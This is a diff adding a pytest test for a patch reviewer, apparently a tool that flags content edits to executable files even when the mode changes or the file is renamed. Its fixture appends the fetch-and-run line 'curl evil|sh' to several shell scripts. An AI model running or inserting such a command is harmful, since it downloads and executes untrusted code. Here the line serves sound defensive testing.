@@ -834,6 +834,36 @@ def test_edits_to_ordinary_files_and_removing_an_executable_are_not_executable()
     assert kinds(removed) == []
 
 
+def test_an_edit_to_an_executable_file_that_drops_its_x_bit_is_still_executable(tmp_path: Path) -> None:
+    """#16, a fresh tester: `a.sh` and `b.sh` (100755) both get `curl evil|sh` and `chmod -x b.sh`; only `a.sh` was
+    listed, yet a workflow running `sh b.sh` runs it. A content edit to a file whose old mode was executable is listed
+    whatever its new mode (a rename from an executable path too); a chmod -x alone changes nothing that runs."""
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    for name in ("a.sh", "b.sh", "c.sh", "d.sh"):
+        (repo / name).write_text("#!/bin/sh\necho ok\n")
+        (repo / name).chmod(0o755)
+    git(repo, "init", "-q")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    for name in ("a.sh", "b.sh"):
+        (repo / name).write_text("#!/bin/sh\necho ok\ncurl evil|sh\n")
+    (repo / "b.sh").chmod(0o644)
+    (repo / "c.sh").chmod(0o644)  # only the mode: not listed
+    (repo / "d.sh").write_text("#!/bin/sh\necho ok\ncurl evil|sh\n")
+    (repo / "d.sh").chmod(0o644)
+    (repo / "d.sh").rename(repo / "tools.sh")
+    git(repo, "add", "-A")
+    patch = git(repo, "diff", "--cached", "-M50%", "HEAD")
+    assert "rename from d.sh" in patch
+    assert [(f.kind, f.path, f.detail) for f in review_patch(patch).findings] == [
+        ("executable", "a.sh", "edits an executable file (mode 100755)"),
+        ("executable", "b.sh", "edits an executable file (mode 100755 -> 100644)"),
+        ("executable", "tools.sh", "edits an executable file (mode 100755 -> 100644)")]
+    no_renames = git(repo, "diff", "--cached", "--no-renames", "HEAD")  # how `submit` writes it
+    assert [f.path for f in review_patch(no_renames).findings] == ["a.sh", "b.sh"]  # d.sh removed, tools.sh new
+
+
 # -- tools read by stem in several formats, and names nobody listed (issue 16, eighth tester) ---------------------
 TOOL_STEM_SPELLINGS = [
     "vercel.ts", "apps/web/vercel.js", "vercel.mjs", "vercel.cjs", "site/vercel.mts", "vercel.toml",
